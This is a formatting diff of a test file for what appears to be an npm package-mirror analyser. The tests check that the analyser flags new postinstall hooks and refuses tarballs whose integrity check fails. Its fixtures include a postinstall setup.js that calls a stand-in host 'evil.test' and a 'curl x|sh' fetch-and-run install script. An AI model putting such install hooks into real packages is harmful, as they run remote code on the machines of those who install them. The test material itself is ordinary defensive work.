@@ -19,14 +19,35 @@ function side(upstream: FakeUpstream, version: string, dist: { integrity: string
   const pin = pinDigest(dist);
   assert.equal(pin.kind, 'pinned');
   const sri = pin.kind === 'pinned' ? pin.digest.sri : '';
-  return { version, manifest: (upstream.packument('demo') as any).versions?.[version], tarballUrl: dist.tarball, integrity: sri, blob: sri };
+  return {
+    version,
+    manifest: (upstream.packument('demo') as any).versions?.[version],
+    tarballUrl: dist.tarball,
+    integrity: sri,
+    blob: sri,
+  };
 }
 
 function job(next: AnalysisJobData['next'], previous: AnalysisJobData['previous'], blobsDir: string): AnalysisJobData {
   return {
     id: 'x',
-    question: { mirrorId: 'm', package: 'demo', version: next.version, integrity: next.integrity, previousVersion: previous?.version ?? null, previousIntegrity: previous?.integrity ?? null, analyzerVersion: ANALYZER_VERSION },
-    next, previous, dependencies: [], preparedAt: Date.now(), blobsDir, limits, upstream: 'http://127.0.0.1:9/', youngDependency: { maxAgeMs: 30 * 86_400_000, minVersions: 3 },
+    question: {
+      mirrorId: 'm',
+      package: 'demo',
+      version: next.version,
+      integrity: next.integrity,
+      previousVersion: previous?.version ?? null,
+      previousIntegrity: previous?.integrity ?? null,
+      analyzerVersion: ANALYZER_VERSION,
+    },
+    next,
+    previous,
+    dependencies: [],
+    preparedAt: Date.now(),
+    blobsDir,
+    limits,
+    upstream: 'http://127.0.0.1:9/',
+    youngDependency: { maxAgeMs: 30 * 86_400_000, minVersions: 3 },
   };
 }
 
@@ -41,12 +62,15 @@ async function withUpstream(fn: (u: FakeUpstream, blobs: BlobStore, dir: string)
   }
 }
 
-const distFor = (u: FakeUpstream, v: string) => ((u.packument('demo') as any).versions[v].dist as { integrity: string; tarball: string });
+const distFor = (u: FakeUpstream, v: string) => (u.packument('demo') as any).versions[v].dist as { integrity: string; tarball: string };
 
 test('a new postinstall against the previous version is found; the bytes read are kept in the verified store', () =>
   withUpstream(async (u, blobs, dir) => {
     u.publish('demo', '1.0.0', { files: { 'index.js': 'module.exports = 1' } });
-    u.publish('demo', '1.0.1', { scripts: { postinstall: 'node setup.js' }, files: { 'index.js': 'module.exports = 1', 'setup.js': 'require("https").get("https://evil.test/x")' } });
+    u.publish('demo', '1.0.1', {
+      scripts: { postinstall: 'node setup.js' },
+      files: { 'index.js': 'module.exports = 1', 'setup.js': 'require("https").get("https://evil.test/x")' },
+    });
     const out = await processAnalysis(job(side(u, '1.0.1', distFor(u, '1.0.1')), side(u, '1.0.0', distFor(u, '1.0.0')), dir), { blobs });
     assert.equal(out.previousVersion, '1.0.0');
     assert.equal(out.maxSeverity, 'critical');
@@ -62,8 +86,14 @@ test('a new postinstall against the previous version is found; the bytes read ar
 test('bytes that do not match the pinned digest are refused, never analysed, and leave no file', () =>
   withUpstream(async (u, blobs, dir) => {
     u.publish('demo', '1.0.0', {});
-    u.tarballOverrides.set('demo-1.0.0.tgz', packTarball({ 'package.json': '{"name":"demo","version":"1.0.0","scripts":{"postinstall":"curl x|sh"}}' }));
-    await assert.rejects(processAnalysis(job(side(u, '1.0.0', distFor(u, '1.0.0')), null, dir), { blobs }), (e: unknown) => e instanceof AnalysisError && e.code === 'INTEGRITY_MISMATCH' && !e.retryable);
+    u.tarballOverrides.set(
+      'demo-1.0.0.tgz',
+      packTarball({ 'package.json': '{"name":"demo","version":"1.0.0","scripts":{"postinstall":"curl x|sh"}}' }),
+    );
+    await assert.rejects(
+      processAnalysis(job(side(u, '1.0.0', distFor(u, '1.0.0')), null, dir), { blobs }),
+      (e: unknown) => e instanceof AnalysisError && e.code === 'INTEGRITY_MISMATCH' && !e.retryable,
+    );
     assert.deepEqual(readdirSync(join(dir, 'tmp')), [], 'no partial file');
   }));
 
@@ -71,11 +101,20 @@ test('an unreadable tarball, a tarball over the size cap and an unreachable upst
   withUpstream(async (u, blobs, dir) => {
     const truncated = gzipSync(Buffer.from('not a tar archive at all'));
     u.publish('demo', '2.0.0', { tarball: truncated });
-    await assert.rejects(processAnalysis(job(side(u, '2.0.0', distFor(u, '2.0.0')), null, dir), { blobs }), (e: unknown) => e instanceof AnalysisError && e.code === 'TARBALL_UNREADABLE');
+    await assert.rejects(
+      processAnalysis(job(side(u, '2.0.0', distFor(u, '2.0.0')), null, dir), { blobs }),
+      (e: unknown) => e instanceof AnalysisError && e.code === 'TARBALL_UNREADABLE',
+    );
     u.publish('demo', '3.0.0', { files: { 'big.bin': randomBytes(64 * 1024) } });
     const small = new BlobStore(dir, { maxBytes: 10_000, timeoutMs: 5_000 });
-    await assert.rejects(processAnalysis(job(side(u, '3.0.0', distFor(u, '3.0.0')), null, dir), { blobs: small }), (e: unknown) => e instanceof AnalysisError && e.code === 'TARBALL_TOO_LARGE' && !e.retryable);
+    await assert.rejects(
+      processAnalysis(job(side(u, '3.0.0', distFor(u, '3.0.0')), null, dir), { blobs: small }),
+      (e: unknown) => e instanceof AnalysisError && e.code === 'TARBALL_TOO_LARGE' && !e.retryable,
+    );
     u.failTarballs = 5;
     u.publish('demo', '4.0.0', {});
-    await assert.rejects(processAnalysis(job(side(u, '4.0.0', distFor(u, '4.0.0')), null, dir), { blobs }), (e: unknown) => e instanceof AnalysisError && e.code === 'TRANSIENT' && e.retryable);
+    await assert.rejects(
+      processAnalysis(job(side(u, '4.0.0', distFor(u, '4.0.0')), null, dir), { blobs }),
+      (e: unknown) => e instanceof AnalysisError && e.code === 'TRANSIENT' && e.retryable,
+    );
   }));
